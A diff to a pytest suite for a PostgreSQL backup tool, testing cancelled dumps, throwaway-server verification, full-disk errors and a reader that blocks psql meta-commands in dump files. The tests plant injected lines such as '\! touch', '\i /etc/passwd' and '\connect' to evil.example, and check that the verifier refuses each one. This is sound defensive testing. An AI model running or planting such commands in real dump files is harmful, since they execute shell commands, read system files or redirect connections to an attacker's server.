@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import gzip
+import re
 import subprocess
 from datetime import datetime, timezone
 from pathlib import Path
@@ -209,28 +210,236 @@ def test_verify_job_records_result_on_the_backup(tmp_path, pg, run_jobs, setting
     assert failed.ok is False and "truncated" in failed.message and failed.job_id == bad_job.pk
 
 
+def wait_until(condition, what, deadline=120.0):
+    """Poll ``condition`` until true; the deadline only turns a hang into a failure."""
+    import time
+
+    end = time.monotonic() + deadline
+    while not condition():
+        assert time.monotonic() < end, f"gave up waiting for {what}"
+        time.sleep(0.05)
+
+
 def test_cancelled_backup_kills_the_dump_and_leaves_no_file(tmp_path, pg):
-    import time as _time
+    import psycopg
 
     pg.psql("DROP DATABASE IF EXISTS cancel_src")
     pg.psql("CREATE DATABASE cancel_src")
-    env = {"PGPASSWORD": pg.password, "PATH": "/usr/bin:/bin"}
-    subprocess.run(["pgbench", "-i", "-s", "10", "-I", "dtG", "-q", "-h", "127.0.0.1", "-p", str(pg.port), "-U",
-                    "postgres", "cancel_src"], check=True, env=env, capture_output=True)
+    pg.psql("CREATE TABLE held (id int); INSERT INTO held SELECT generate_series(1, 1000)", "cancel_src")
+    dump_sessions = ("SELECT count(*) FROM pg_stat_activity WHERE datname = 'cancel_src' "
+                     "AND application_name IN ('pg_dump', 'pg_dumpall')")
 
     class Stop(Exception):
         pass
 
-    started = _time.monotonic()
+    seen = {}
 
     def check():
-        if _time.monotonic() - started > 0.5:
+        # Cancel once pg_dump is provably mid-dump: it waits for the lock this test holds, so it cannot have
+        # finished, whatever the machine's speed.
+        waiting = pg.psql("SELECT count(*) FROM pg_stat_activity WHERE datname = 'cancel_src' "
+                          "AND application_name = 'pg_dump' AND wait_event_type = 'Lock'", "cancel_src").strip()
+        if waiting == "1":
+            seen["partial"] = [p.name for p in tmp_path.rglob("*.in_progress")]
+            raise Stop()
+
+    # pg_dump locks every table it dumps (ACCESS SHARE); holding ACCESS EXCLUSIVE stops it right there.
+    with psycopg.connect(pg.url("cancel_src")) as holder:
+        holder.execute("LOCK TABLE held IN ACCESS EXCLUSIVE MODE")
+        with pytest.raises(Stop):
+            driver(tmp_path, pg, "cancel_src").take_backup(check=check)
+        assert len(seen["partial"]) == 1  # cancelled while the backup was being written
+        assert [p for p in tmp_path.rglob("*") if p.is_file()] == []
+        holder.rollback()
+    # the killed pg_dump's server session ends once it gets the lock and finds its client gone
+    wait_until(lambda: pg.psql(dump_sessions).strip() == "0", "the dump's sessions to end")
+    pg.psql("DROP DATABASE cancel_src")
+
+
+# --- verification in a throwaway server ---------------------------------------------
+def backup_text(entry) -> str:
+    return gzip.decompress(Path(entry.path).read_bytes()).decode()
+
+
+def put_backup(tmp_path, drv, text: str, when: datetime):
+    """A file with ``text`` as a backup named for ``when``, as the catalog lists it."""
+    name = backups.backup_name("hcap-patroni", "hcap", when)
+    path = tmp_path / backups.folder_kind(when.date()) / f"{when:%Y-%m-%d}" / name
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(gzip.compress(text.encode()))
+    return next(e for e in drv.list_backups() if e.name == name)
+
+
+def server_folder(lines) -> Path:
+    started = [line for line in lines if line.startswith("Started a throwaway PostgreSQL")]
+    assert len(started) == 1, lines
+    return Path(started[0].rsplit(" in ", 1)[1])
+
+
+def test_verify_does_not_touch_the_live_server_roles(tmp_path, pg):
+    seed(pg)
+    pg.psql("DROP ROLE IF EXISTS hcap_departed; CREATE ROLE hcap_departed LOGIN")
+    try:
+        drv = driver(tmp_path, pg)
+        entry = drv.take_backup(now=datetime(2026, 11, 18, 3, 0, 0, tzinfo=timezone.utc))
+        assert "CREATE ROLE hcap_departed;" in backup_text(entry)
+        pg.psql("ALTER ROLE hcap_departed NOLOGIN")  # access revoked after that backup was taken
+        lines = []
+        found = drv.verify_backup(entry, log=lines.append)
+        assert pg.psql("SELECT rolcanlogin FROM pg_roles WHERE rolname = 'hcap_departed'").strip() == "f"
+        assert found["row_counts"]["public.applicants"] == 3000 and found["postgres_major"] >= 13
+        assert not server_folder(lines).exists()
+        assert not pg.psql("SELECT datname FROM pg_database WHERE datname LIKE 'hcapadmin_verify_%'").strip()
+    finally:
+        pg.psql("DROP ROLE IF EXISTS hcap_departed")
+
+
+def test_verify_refuses_psql_meta_commands_naming_the_line(tmp_path, pg):
+    seed(pg)
+    drv = driver(tmp_path, pg)
+    good = backup_text(drv.take_backup(now=datetime(2026, 11, 17, 3, 0, 0, tzinfo=timezone.utc)))
+    # a planted file would not carry pg_dump's own \restrict lines
+    lines = [line for line in good.splitlines(keepends=True) if not line.startswith(("\\restrict", "\\unrestrict"))]
+    at = next(i for i, line in enumerate(lines) if line.startswith("CREATE TABLE public.applicants"))
+    planted = tmp_path / "planted"
+    hour = iter(range(4, 24))
+
+    def planted_file(extra: str):
+        text = "".join(lines[:at]) + extra + "".join(lines[at:])
+        return put_backup(tmp_path, drv, text, datetime(2026, 11, 17, next(hour), 0, 0, tzinfo=timezone.utc))
+
+    for command in (f"\\! touch {planted}", f"  \\! touch {planted}", "\\copy sites to '/tmp/x'", "\\i /etc/passwd",
+                    "\\set ON_ERROR_STOP 0", "\\connect hcap host=evil.example"):
+        with pytest.raises(backups.VerifyFailed) as info:
+            drv.verify_backup(planted_file(command + "\n"), log=lambda line: None)
+        message = str(info.value)
+        assert f"line {at + 1}:" in message and "meta-command \\" + command.split()[0].lstrip("\\") in message, message
+        assert not planted.exists()
+    # after SQL on the same line, psql itself refuses it: the server's psql runs in \restrict mode
+    lines_seen = []
+    with pytest.raises(backups.VerifyFailed) as info:
+        drv.verify_backup(planted_file(f"SELECT 1; \\! touch {planted}\n"), log=lines_seen.append)
+    assert "backslash commands are restricted" in str(info.value)
+    assert not planted.exists()
+    assert not server_folder(lines_seen).exists()  # removed after a failing verify too
+    # the check also works on its own, on a whole file, without running anything
+    with gzip.open(planted_file(f"\\! touch {planted}\n").path, "rb") as fh, pytest.raises(backups.UnsafeSQL):
+        backups.check_sql_file(fh, chunk_size=4096)
+    with gzip.open(drv.take_backup().path, "rb") as fh:
+        assert backups.check_sql_file(fh, chunk_size=4096) == good.count("\n")
+    assert "\\restrict " in good  # pg_dump's own lines pass
+
+
+def test_verify_passes_copy_data_that_begins_with_backslashes(tmp_path, pg):
+    seed(pg)
+    pg.psql(r"""DROP TABLE IF EXISTS notes;
+                CREATE TABLE notes (body text, n int);
+                INSERT INTO notes VALUES (E'\\x41', 1), (NULL, 2), (E'\\.', 3), (E'\\', 4), (E'\\! touch /x', 5),
+                                         (E'\\connect other', 6), (E'a\nb', 7);""", "hcap")
+    try:
+        drv = driver(tmp_path, pg)
+        entry = drv.take_backup(now=datetime(2026, 11, 16, 3, 0, 0, tzinfo=timezone.utc))
+        text = backup_text(entry)
+        assert "\n\\N\t2\n" in text and "\n\\\\.\t3\n" in text and "\n\\\\! touch /x\t5\n" in text
+        # chunks cut anywhere, lines split across reads
+        with gzip.open(entry.path, "rb") as fh:
+            assert backups.check_sql_file(fh, chunk_size=7) == text.count("\n")
+        found = drv.verify_backup(entry)
+        assert found["row_counts"]["public.notes"] == 7
+    finally:
+        pg.psql("DROP TABLE IF EXISTS notes", "hcap")
+
+
+def test_verify_throwaway_server_is_removed_after_a_cancel(tmp_path, pg):
+    seed(pg)
+    drv = driver(tmp_path, pg)
+    entry = drv.take_backup(now=datetime(2026, 11, 15, 3, 0, 0, tzinfo=timezone.utc))
+    lines = []
+
+    class Stop(Exception):
+        pass
+
+    def check():
+        if any(line.startswith("Restoring into") for line in lines):
+            assert server_folder(lines).is_dir()  # the server really was running
             raise Stop()
 
     with pytest.raises(Stop):
-        driver(tmp_path, pg, "cancel_src").take_backup(check=check)
-    assert _time.monotonic() - started < 5
-    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []
-    _time.sleep(0.5)
-    assert not pg.psql("SELECT pid FROM pg_stat_activity WHERE application_name IN ('pg_dump', 'pg_dumpall')").strip()
-    pg.psql("DROP DATABASE cancel_src")
+        drv.verify_backup(entry, log=lines.append, check=check)
+    assert not server_folder(lines).exists()
+
+
+def test_verify_of_a_backup_from_a_major_version_not_installed_fails_clearly(tmp_path, pg):
+    from ops.errors import Unavailable
+
+    seed(pg)
+    drv = driver(tmp_path, pg)
+    text = backup_text(drv.take_backup(now=datetime(2026, 11, 14, 3, 0, 0, tzinfo=timezone.utc)))
+    missing = next(n for n in (12, 11, 10, 19, 20) if not Path(f"/usr/lib/postgresql/{n}/bin/postgres").exists())
+    text = re.sub(r"-- Dumped from database version \d+\.\d+", f"-- Dumped from database version {missing}.4", text)
+    entry = put_backup(tmp_path, drv, text, datetime(2026, 11, 14, 4, 0, 0, tzinfo=timezone.utc))
+    with pytest.raises(Unavailable) as info:
+        drv.verify_backup(entry)
+    assert f"PostgreSQL {missing} is not installed" in str(info.value)
+
+
+# --- honest errors -----------------------------------------------------------------
+@pytest.fixture
+def full_backup_dir(tmp_path, monkeypatch):
+    """A backup folder that fills up after 1 MB: a real 1 MB tmpfs where
+    mounting is allowed, else the compressor writing into /dev/full (the
+    same ENOSPC on the compressor's own write)."""
+    folder = tmp_path / "small"
+    folder.mkdir()
+    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(folder)],
+                             capture_output=True).returncode == 0
+    if not mounted:
+        real = backups.compressor_argv()
+        monkeypatch.setattr(backups, "compressor_argv", lambda: ["sh", "-c", 'exec "$0" "$@" >/dev/full'] + real)
+    yield folder
+    if mounted:
+        subprocess.run(["umount", str(folder)], check=True)
+
+
+def test_full_disk_during_backup_reports_the_compressors_error(full_backup_dir, pg):
+    pg.psql("DROP DATABASE IF EXISTS big_src")
+    pg.psql("CREATE DATABASE big_src")
+    # about 8 MB of dump that compresses to about half: far more than the folder and the pipe between the two hold
+    pg.psql("CREATE TABLE filler AS SELECT g AS id, md5(g::text) || md5((g * 7)::text) AS body "
+            "FROM generate_series(1, 120000) g", "big_src")
+    try:
+        with pytest.raises(backups.OpsError) as info:
+            driver(full_backup_dir, pg, "big_src").take_backup()
+        message = str(info.value)
+        # the compressor's own failure and message, not "pg_dump failed (killed by SIGPIPE)"
+        assert message.split()[0] in ("pigz", "gzip", "sh") and "No space left on device" in message, message
+        assert [p for p in full_backup_dir.rglob("*") if p.is_file()] == []
+    finally:
+        pg.psql("DROP DATABASE big_src")
+
+
+def test_sql_reader_lets_through_only_pg_dumps_own_meta_commands():
+    import io
+
+    def run(text, chunk_size=5):
+        reader = backups.SafeSQLReader(io.BytesIO(text.encode()), chunk_size=chunk_size)
+        return reader, b"".join(iter(lambda: reader.read(3), b"")).decode()
+
+    reader, out = run("SELECT 1;\n\\restrict abc123\n\\connect hcap\n"
+                      "\\connect -reuse-previous=on \"dbname='my db'\"\n\\unrestrict abc123\n")
+    key = reader.restrict_key
+    assert reader.preamble.decode() == f"\\restrict {key}\n" and len(key) >= 32
+    # the file's own \restrict lines are blanked; \connect runs outside the reader's restricted mode only
+    assert out == (f"SELECT 1;\n\n\\unrestrict {key}\n\\connect hcap\n\\restrict {key}\n"
+                   f"\\unrestrict {key}\n\\connect -reuse-previous=on \"dbname='my db'\"\n\\restrict {key}\n\n")
+    for bad in ("\\connect hcap evil.example", "\\connect -reuse-previous=on \"dbname='host=evil.example'\"",
+                "\\connect -reuse-previous=on \"dbname='postgresql://evil'\"", "\\c hcap", "\\restrict a b",
+                "\\gexec", "\t\\o /tmp/out", "COPY t TO stdout; -- FROM stdin;\n\\! id"):
+        with pytest.raises(backups.UnsafeSQL) as info:
+            run(f"SELECT 1;\n{bad}\n")
+        assert str(info.value).startswith("line 2:") or str(info.value).startswith("line 3:"), str(info.value)
+    # in pg_dumpall's roles section nothing is COPY data
+    with pytest.raises(backups.UnsafeSQL, match="line 3: psql meta-command \\\\!"):
+        run("-- PostgreSQL database cluster dump\nCOPY public.t (a) FROM stdin;\n\\! id\n\\.\n")
+    _, out = run("-- PostgreSQL database cluster dump complete\nCOPY public.t (a) FROM stdin;\n\\! id\n\\.\n")
+    assert "\\! id" in out
